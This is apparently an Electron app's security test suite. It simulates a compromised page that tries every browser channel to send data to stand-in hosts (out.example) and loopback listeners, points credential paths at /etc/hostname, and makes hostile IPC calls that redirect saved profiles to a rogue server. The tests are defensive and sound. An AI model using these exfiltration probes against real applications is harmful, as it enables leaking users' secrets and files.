import { createSocket } from 'node:dgram';
import { readdirSync, readFileSync } from 'node:fs';
import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { chromium, type Page } from '@playwright/test';
import fc from 'fast-check';
import { ROOT } from '../../scripts/setup/places.js';
import { contract, type CallName } from '../../shared/ipc.ts';
import { settingsSchema } from '../../shared/settings.ts';
import type { ProfileView } from '../../shared/status.ts';
import { makeFolder, runsAsRoot } from '../peers/folder.ts';
import { callNames, hostileInputs, revive, type Known, type Recipe } from '../peers/hostile-input.ts';
import { askKeytar } from '../peers/keyring.ts';
import { expect, expectOnline, test, viewIn } from './causeway.ts';
import { executable, surroundings } from './surroundings.ts';
import { addProfile, canary, startCompany, type TypedProfile } from './company.ts';
import { isLoopback, traced, type Attempt } from './traced.ts';

/** A page under foreign control: it tries every door of the browser, and every call of the contract. */

/** Listeners on loopback that note all that arrives, in any protocol. */
async function listening() {
  const heard: string[] = [];
  const udp = createSocket('udp4', (message) => void heard.push(`${message.length} bytes over UDP`));
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  const tcp = createServer((socket) => {
    heard.push('a connection over TCP');
    socket.on('error', () => undefined).destroy();
  }).listen(0, '127.0.0.1');
  await once(tcp, 'listening');
  const stop = () => {
    udp.close();
    tcp.close();
  };
  return { heard, udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port, stop };
}

/**
 * Chromium connects UDP sockets to these two addresses, over which nothing is sent: so it learns from the kernel whether
 * there is IPv6, and which address of this computer would lead outside.
 */
const isKernelsBusiness = ({ call, address }: Attempt): boolean =>
  call === 'connect' && (address === '2001:4860:4860::8888' || address === '8.8.8.8');

interface Doors {
  readonly udp: number;
  readonly tcp: number;
  /** Ends every name that is asked for, each beginning with the door's own. */
  readonly domain: string;
}

/** Tries every way out that a page has; resolves when those that tell have told, and WebRTC has given up gathering. */
const tryEveryDoor = (page: Page, doors: Doors): Promise<readonly string[]> =>
  page.evaluate(async ({ udp, tcp, domain }) => {
    const found: string[] = [];
    const connections = [
      `stun:127.0.0.1:${udp}`,
      `turn:127.0.0.1:${udp}?transport=udp`,
      `turn:127.0.0.1:${tcp}?transport=tcp`,
      `turns:127.0.0.1:${tcp}?transport=tcp`,
      `stun:stun.${domain}:3478`,
      `turn:turn.${domain}:3478?transport=tcp`,
    ].map(async (urls) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'b' }] });
      connection.createDataChannel('x');
      connection.onicecandidate = ({ candidate }) => candidate !== null && found.push(candidate.candidate);
      const gathered = new Promise<void>((resolve) => {
        connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
      });
      await connection.setLocalDescription(await connection.createOffer());
      // TURN over TCP tries for as long as it is left.
      await Promise.race([gathered, new Promise((resolve) => setTimeout(resolve, 3_000))]);
      connection.close();
    });
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'icon']) {
      for (const href of [`https://${rel}.${domain}/`, `http://127.0.0.1:${tcp}/${rel}`]) {
        document.head.append(Object.assign(document.createElement('link'), { rel, href }));
      }
    }
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    const urls = [`https://speculation.${domain}/`, `http://127.0.0.1:${tcp}/speculation`];
    rules.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls }],
      prerender: [{ source: 'list', urls }],
    });
    document.head.append(rules);
    const link = document.createElement('a');
    Object.assign(link, { href: '#', ping: `http://127.0.0.1:${tcp}/ping`, textContent: 'x' });
    document.body.append(link);
    link.click();
    const attempts: (() => unknown)[] = [
      () => fetch(`http://127.0.0.1:${tcp}/fetch`),
      () => fetch(`https://fetch.${domain}/`, { mode: 'no-cors', keepalive: true }),
      () => navigator.sendBeacon(`https://beacon.${domain}/`, 'x'),
      () => navigator.sendBeacon(`http://127.0.0.1:${tcp}/beacon`, 'x'),
      () => new WebSocket(`ws://127.0.0.1:${tcp}/`),
      () => new WebSocket(`wss://websocket.${domain}/`),
      () => new EventSource(`https://events.${domain}/`),
      () => new Worker(`https://worker.${domain}/x.js`),
      () => new SharedWorker(`https://shared.${domain}/x.js`),
      () =>
        new (window as never as { WebTransport: new (url: string) => { ready: Promise<void> } }).WebTransport(
          `https://127.0.0.1:${udp}/`,
        ).ready,
      () => navigator.serviceWorker.register(`https://service.${domain}/x.js`),
      () => window.open(`https://open.${domain}/`),
      () => (new Image().src = `https://image.${domain}/`),
      () => (new Audio().src = `https://audio.${domain}/`),
      () => new FontFace('x', `url(https://font.${domain}/)`).load(),
      () => import(/* @vite-ignore */ `https://import.${domain}/x.js`),
      () => (document.body.style.backgroundImage = `url(https://css.${domain}/)`),
      () =>
        document.body.append(
          Object.assign(document.createElement('iframe'), { src: `https://frame.${domain}/` }),
        ),
      () =>
        document.body.append(
          Object.assign(document.createElement('object'), { data: `https://object.${domain}/` }),
        ),
    ];
    await Promise.allSettled(attempts.map((attempt) => Promise.resolve().then(attempt)));
    await Promise.all(connections);
    return found;
  }, doors);

test('h5: the page finds no way out: it reaches nobody, and only two of its doors have a name looked up', async ({
  keyring,
  userData,
}) => {
  const { heard, udp, tcp, stop } = await listening();
  const domain = 'out.example';
  let candidates: readonly string[] | null = null;
  const openDoors = async (said: string): Promise<boolean> => {
    const url = /DevTools listening on (ws:\S+)/.exec(said)?.[1];
    if (url === undefined) return false;
    const browser = await chromium.connectOverCDP(url);
    const page = browser.contexts()[0]?.pages()[0];
    if (page?.url() !== 'causeway://app/index.html') return browser.close().then(() => false);
    candidates = await tryEveryDoor(page, { udp, tcp, domain });
    await browser.close();
    return true;
  };
  const sandbox = runsAsRoot() ? ['--no-sandbox'] : [];
  const command = [await executable(), ROOT, ...sandbox, '--remote-debugging-port=0'];
  try {
    const { attempts, trace } = await traced(command, surroundings(keyring, userData), openDoors);
    expect(candidates, 'addresses of this computer').toEqual([]);
    expect(heard).toEqual([]);
    const outside = attempts.filter((attempt) => !isLoopback(attempt) && !isKernelsBusiness(attempt));
    expect(outside.filter(({ port }) => port !== 53)).toEqual([]);
    expect(attempts.filter(({ port }) => port === udp || port === tcp)).toEqual([]);
    // In a question to a name server each part of a name stands behind its length.
    const names = new Set([...trace.matchAll(/([a-z-]+)\\3out/g)].map(([, name]) => name));
    // What nothing in Electron closes, since scripts that choose proxies need the same look-ups (SECURITY.md).
    expect([...names].filter((name = '') => !/dns-prefetch$|^turn$/.test(name))).toEqual([]);
  } finally {
    stop();
  }
});

test('the page can’t take anything out, nor keep its window open', async ({ launch }) => {
  const { page, app } = await launch();
  await app.evaluate(({ dialog, session }) => {
    const downloads: string[] = [];
    Object.assign(globalThis, { downloads });
    session.defaultSession.on('will-download', (event, item) => {
      if (!event.defaultPrevented) downloads.push(item.getURL());
    });
    const opened: string[] = [];
    Object.assign(globalThis, { openedDialogs: opened });
    for (const name of [
      'showMessageBox',
      'showMessageBoxSync',
      'showSaveDialog',
      'showOpenDialog',
    ] as const) {
      Object.assign(dialog, { [name]: () => void opened.push(name) });
    }
  });
  const outcomes = await page.evaluate(async () => {
    const outcome = async (work: () => unknown): Promise<string> => {
      try {
        return String(await work());
      } catch {
        return 'refused';
      }
    };
    const download = (href: string) => {
      const link = Object.assign(document.createElement('a'), { href, download: 'taken.txt' });
      document.body.append(link);
      link.click();
    };
    download('data:text/plain,taken');
    download(URL.createObjectURL(new Blob(['taken'])));
    download('causeway://app/index.html');
    window.print();
    alert('Type your password');
    return {
      confirm: await outcome(() => confirm('Type your password')),
      prompt: await outcome(() => prompt('Type your password')),
      clipboard: await outcome(() => navigator.clipboard.readText()),
      screen: await outcome(() => navigator.mediaDevices.getDisplayMedia()),
      microphone: await outcome(() => navigator.mediaDevices.getUserMedia({ audio: true })),
      fullscreen: await outcome(() => {
        // A call that isn't allowed is never answered.
        void document.documentElement.requestFullscreen().catch(() => undefined);
        return document.fullscreenElement;
      }),
      place: await outcome(
        () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
      ),
    };
  });
  expect(outcomes).toEqual({
    confirm: 'false',
    prompt: expect.stringMatching(/^(null|refused)$/) as unknown,
    clipboard: 'refused',
    screen: 'refused',
    microphone: 'refused',
    fullscreen: 'null',
    place: 'refused',
  });
  expect(
    await app.evaluate(() => (globalThis as never as { openedDialogs: string[] }).openedDialogs),
  ).toEqual([]);
  expect(await app.evaluate(() => (globalThis as never as { downloads: string[] }).downloads)).toEqual([]);

  await test.step('L1: its window closes all the same', async () => {
    await page.evaluate(() => {
      window.onbeforeunload = (event) => {
        event.preventDefault();
        return 'stay';
      };
    });
    // Pages ask to stay only once a person has touched them.
    await page.mouse.click(5, 5);
    const closed = page.waitForEvent('close');
    await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.close());
    await closed;
  });
});

test('the page gets nothing that only a person may give (h4a, h4b)', async ({ launch }) => {
  const { page, app } = await launch({ args: ['--demo'] });
  await expect(page.getByRole('contentinfo', { name: 'Status' })).toContainText('1 online');
  await app.evaluate(({ dialog, clipboard }) => {
    void clipboard.writeText('untouched');
    const opened: string[] = [];
    Object.assign(globalThis, { openedDialogs: opened });
    for (const name of ['showSaveDialog', 'showOpenDialog'] as const) {
      Object.assign(dialog, { [name]: () => void opened.push(name) });
    }
  });
  const answers = await page.evaluate(async () => {
    const { causeway } = window;
    // What a script makes of clicks and keys is none of a person's.
    document.querySelector('button')?.dispatchEvent(new MouseEvent('mousedown', { bubbles: true }));
    document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
    const id = 'demo' as never;
    const pin = { host: 'a:1', fingerprint: Array(32).fill('AB').join(':'), until: Date.now() + 1_000 };
    return Promise.all([
      causeway.revealToken({ id, session: null }),
      causeway.copyToken({ id, session: null }),
      causeway.trustCertificate({ id, pin }),
      causeway.chooseJwtFile({ id }),
      causeway.exportProfiles({ ids: [id] }),
      causeway.saveEvidence({ name: 'a', format: 'report', text: 'b' }),
      causeway.signInAgainAll(undefined),
      causeway.startRelay({ id }),
      causeway.replaceRelayKey({ id }),
    ]);
  });
  for (const answer of answers) expect(answer).toEqual({ ok: false, problem: { kind: 'gesture.missing' } });
  expect(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe('untouched');
  expect(
    await app.evaluate(() => (globalThis as never as { openedDialogs: string[] }).openedDialogs),
  ).toEqual([]);

  await test.step('and after one press, one of it', async () => {
    await page.keyboard.press('Shift');
    const [first, second] = await page.evaluate(async () => {
      const token = { id: 'demo' as never, session: null };
      return [await window.causeway.revealToken(token), await window.causeway.revealToken(token)];
    });
    expect(first?.ok).toBe(true);
    expect(second).toEqual({ ok: false, problem: { kind: 'gesture.missing' } });
  });
});

/** A foreign server and forward proxy: refuses everything, asks for a password, and writes down all of it. */
async function stranger() {
  const heard: Buffer[] = [];
  const server = createServer((socket) => {
    socket
      .on('error', () => undefined)
      .on('data', (chunk) => {
        heard.push(chunk);
        const status = /^CONNECT/.test(chunk.toString()) ? '407 Who' : '401 Who';
        const challenges = 'Proxy-Authenticate: Basic realm="x"\r\nWWW-Authenticate: Basic realm="x"';
        socket.end(`HTTP/1.1 ${status}\r\n${challenges}\r\nContent-Length: 0\r\n\r\n`);
      });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, heard: () => Buffer.concat(heard).toString('latin1'), stop: () => server.close() };
}

interface HostileCall {
  readonly name: CallName;
  readonly recipe: Recipe;
}

/** What the page is after, said outright: the saved profile with other addresses, and files as secrets. */
function aimedCalls(
  { id, profile }: ProfileView,
  url: string,
  files: readonly string[],
): readonly HostileCall[] {
  const ws = url.replace('http', 'ws');
  const elsewhere = [
    { ...profile, server: url },
    { ...profile, server: url, route: { mode: 'direct' } },
    { ...profile, gateway: { ...profile.gateway, syncUrl: ws } },
    { ...profile, route: { ...profile.route, proxy: url } },
    { ...profile, server: url, credential: { kind: 'jwt' }, route: { mode: 'direct' } },
  ];
  const made = { formatVersion: 1, name: 'Made up', server: url, credential: { kind: 'anonymous' } };
  const local = (jwtFile: string) => ({ keeping: 'keychain', jwtFile, serverKey: null, adaptsPings: true });
  return [
    ...elsewhere.map(
      (other) => ({ name: 'testProfile', recipe: { id, profile: other, secrets: {} } }) as const,
    ),
    ...files.map((file) => ({ name: 'setLocal', recipe: { id, local: local(file) } }) as const),
    ...elsewhere.map(
      (other) => ({ name: 'saveProfile', recipe: { id, profile: other, secrets: {} } }) as const,
    ),
    { name: 'connect', recipe: { ids: [id] } },
    {
      name: 'importProfiles',
      recipe: { entries: elsewhere.map((other) => ({ profile: other, replaces: null })) },
    },
    { name: 'importProfiles', recipe: { entries: [{ profile: elsewhere[0], replaces: id }] } },
    { name: 'connect', recipe: { ids: [id] } },
    {
      name: 'testProfile',
      recipe: { id: null, profile: { ...made, route: { mode: 'direct' } }, secrets: {} },
    },
    { name: 'duplicateProfile', recipe: { id } },
    { name: 'setLocal', recipe: { id: 'demo', local: local(files[0] ?? '') } },
    { name: 'changeSettings', recipe: { theme: { $odd: 'undefined' } } },
  ];
}

interface Answered {
  readonly name: CallName;
  /** As JSON; of a call that the bridge doesn't carry, nothing more than that. */
  readonly answer: string;
}

/** Runs in the page, a few calls at a time. */
async function callFromPage(
  build: (recipe: unknown) => unknown,
  calls: readonly HostileCall[],
): Promise<readonly Answered[]> {
  const answers: Answered[] = [];
  const one = async ({ name, recipe }: HostileCall) => {
    let answer = 'not sent';
    try {
      const input = build(recipe);
      answer = JSON.stringify(await window.causeway[name](input as never));
    } catch {
      // What can't be copied into another process is refused by the bridge itself.
    }
    answers.push({ name, answer });
  };
  for (let at = 0; at < calls.length; at += 10) await Promise.all(calls.slice(at, at + 10).map(one));
  return answers;
}

/** As text, so that the page's policy against code from text doesn't concern it. */
const makeCalls = (page: Page, calls: readonly HostileCall[]): Promise<readonly Answered[]> =>
  page.evaluate(
    `(${callFromPage.toString()})(${revive.toString()}, JSON.parse(${JSON.stringify(JSON.stringify(calls))}))`,
  );

/** All that a page can look at: its document, its fields, and what it may keep. */
const seenBy = (page: Page): Promise<string> =>
  page.evaluate(() => {
    const fields = [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea')];
    const stores = [JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.cookie];
    return [document.documentElement.outerHTML, ...fields.map(({ value }) => value), ...stores].join('\n');
  });

const jwtWith = (signature: string): string => {
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  return [part({ alg: 'RS256' }), part({ userId: 'erin' }), signature].join('.');
};

const spellingsOf = (secret: string): readonly string[] => [
  secret,
  encodeURIComponent(secret),
  Buffer.from(secret).toString('hex'),
  Buffer.from(secret).toString('base64').replace(/=+$/, ''),
];

const roundsOfEach = 10;
const seed = 20_261_130;

/** Saved as the person saves it, with a file that the person pointed at. */
async function saveWithFile(page: Page, server: string): Promise<string> {
  await page.keyboard.press('Shift');
  return page.evaluate(async (url) => {
    const { causeway } = window;
    const profile = { formatVersion: 1, name: 'From a file', server: url, credential: { kind: 'jwt' } };
    const saved = await causeway.saveProfile({ id: null, profile, secrets: {} });
    if (!saved.ok) throw new Error(saved.problem.kind);
    const chosen = await causeway.chooseJwtFile({ id: saved.value });
    if (!chosen.ok) throw new Error(chosen.problem.kind);
    const local = { keeping: 'keychain', jwtFile: chosen.value, serverKey: null, adaptsPings: true } as const;
    const settled = await causeway.setLocal({ id: saved.value, local });
    if (!settled.ok) throw new Error(settled.problem.kind);
    return saved.value;
  }, server);
}

test.describe('a page under foreign control', () => {
  // One of the calls tells of errors of the page.
  test.use({ bugs: 'told' });

  test('the page calls everything, and gets no secret, no file and nothing to a host that it wasn’t given for (h2, h4a, h4b, h4c, h5, m2, l5)', async ({
    launch,
    userData,
    keyring,
  }) => {
    test.setTimeout(180_000);
    const company = await startCompany();
    const [other, silent, outside] = await Promise.all([stranger(), listening(), makeFolder('outside')]);
    try {
      const { typed } = company;
      const signature = canary('Signature');
      const jwtFile = await outside.write('token', jwtWith(signature));
      const unchosenSignature = canary('Unchosen');
      const unchosen = await outside.write('unchosen', jwtWith(unchosenSignature));
      const { page, app, said } = await launch();
      await addProfile(page, typed);
      await expectOnline(page);
      const [connected] = (await viewIn(page)).profiles;
      if (connected === undefined) throw new Error('no profile');
      const account = `${connected.id}/refreshToken`;
      const asked = await askKeytar(keyring, "return keytar.getPassword('Causeway', input)", account);
      const refreshToken = 'answered' in asked ? String(asked.answered) : '';
      const openedBy = async () => app.evaluate(() => (globalThis as never as { opened: string[] }).opened);
      await app.evaluate(({ dialog, clipboard }, chosen) => {
        const opened: string[] = [];
        Object.assign(globalThis, { opened });
        void clipboard.writeText('untouched');
        const note = (name: string) => () => {
          opened.push(name);
          return Promise.resolve({ canceled: false, filePaths: [chosen], filePath: `${chosen}.saved` });
        };
        Object.assign(dialog, { showOpenDialog: note('open'), showSaveDialog: note('save') });
      }, jwtFile);
      const withFile = await saveWithFile(page, company.server.url);
      expect(await openedBy()).toEqual(['open']);

      const known: Known = {
        profiles: [connected.id, withFile],
        sessions: connected.sessions.map(({ id }) => id),
        servers: [other.url, other.url, typed.server],
        proxies: [other.url, typed.proxy],
        files: [jwtFile, unchosen, '/etc/hostname', outside.file('new'), `http://127.0.0.1:${silent.tcp}/`],
      };
      const sample = (name: CallName) =>
        fc.sample(hostileInputs(name, known), { numRuns: roundsOfEach, seed });
      const calls = callNames.flatMap((name) => sample(name).map((recipe) => ({ name, recipe })));
      const answers = [
        ...(await makeCalls(page, aimedCalls(connected, other.url, [unchosen, '/etc/hostname']))),
        ...(await makeCalls(page, calls)),
      ];
      await tryEveryDoor(page, { udp: silent.udp, tcp: silent.tcp, domain: 'out.invalid' });

      expect([...new Set(answers.map(({ name }) => name))].sort()).toEqual([...callNames].sort());
      expect(answers.filter(({ answer }) => answer.startsWith('{"ok":true')).length).toBeGreaterThan(50);
      for (const { name, answer } of answers) {
        expect(answer, name).toMatch(/^(\{"ok":(true|false)|not sent)/);
        expect(answer, name).not.toContain('"kind":"bug"');
        if (contract[name].needsGesture) expect(answer, name).not.toContain('"ok":true');
      }
      expect(await openedBy()).toEqual(['open']);
      expect(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe('untouched');

      await test.step('its window works afterwards', async () => {
        await page.evaluate(() => window.causeway.changeSettings({ language: 'en', keepsRunning: false }));
        await page.reload();
        const after: TypedProfile = { ...typed, name: 'After all' };
        await addProfile(page, after);
        const states = async () => {
          const { profiles } = await viewIn(page);
          const saved = profiles.find(({ profile }) => profile.name === after.name);
          return saved?.sessions.map(({ phase }) => phase.state);
        };
        await expect.poll(states, { timeout: 20_000 }).toEqual(['online']);
      });

      const readable = (path: string) => readFileSync(userData.file(path), 'utf8');
      expect(readable('profiles.json')).toContain('"After all"');
      const { schemaVersion: _, ...settings } = JSON.parse(readable('settings.json')) as Record<
        string,
        unknown
      >;
      expect(settingsSchema.partial().safeParse(settings)).toMatchObject({ success: true });
      expect(readdirSync(outside.path).sort()).toEqual(['token', 'unchosen']);
      expect(silent.heard).toEqual([]);
      expect(other.heard(), 'it is dialled, by what the page made up').not.toBe('');

      const places = {
        answers: answers.map(({ answer }) => answer).join('\n'),
        view: JSON.stringify(await viewIn(page)),
        page: await seenBy(page),
        stranger: other.heard(),
        output: said(),
        profiles: readable('profiles.json'),
        log: readable('logs/causeway.log'),
      };
      const secrets = [
        typed.password,
        typed.proxyPassword,
        typed.headers[0]?.value ?? '',
        signature,
        refreshToken,
      ];
      const basic = `${typed.proxyUsername}:${typed.proxyPassword}`;
      for (const secret of [...secrets, basic, unchosenSignature]) {
        expect(secret.length).toBeGreaterThan(20);
        for (const [place, text] of Object.entries(places)) {
          for (const spelling of spellingsOf(secret))
            expect.soft(text.includes(spelling), `${spelling} in ${place}`).toBe(false);
        }
      }
    } finally {
      silent.stop();
      other.stop();
      await company.stop();
      await outside.remove();
    }
  });
});
